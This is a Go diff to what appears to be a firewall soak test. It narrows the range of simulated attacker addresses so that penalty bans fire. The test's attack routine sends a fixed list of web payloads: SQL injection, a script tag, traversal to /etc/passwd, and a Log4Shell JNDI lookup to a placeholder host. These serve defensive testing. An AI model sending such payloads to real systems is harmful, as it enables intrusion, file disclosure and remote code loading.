@@ -168,13 +168,16 @@ func (s *soak) slots(dice *rand.Rand) {
 	}
 }
 
+// attackers are few, so that a penalty bans them for a while now and then.
+const attackers = 5
+
 // attack sends what the firewall blocks, from few addresses, which a penalty bans for a while.
 func (s *soak) attack(dice *rand.Rand) {
 	l := s.crowd.line()
 	defer l.close()
 	for pause(s.life, between(dice, 0, s.plan.step)) {
 		payload := []string{"1' OR '1'='1' -- ", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://x.example/a}"}[dice.IntN(4)]
-		l.ask(question{who: "attacker", client: fmt.Sprintf("10.7.0.%d", dice.IntN(20)), path: "/search?q=" + url.QueryEscape(payload)})
+		l.ask(question{who: "attacker", client: fmt.Sprintf("10.7.0.%d", dice.IntN(attackers)), path: "/search?q=" + url.QueryEscape(payload)})
 	}
 }
 
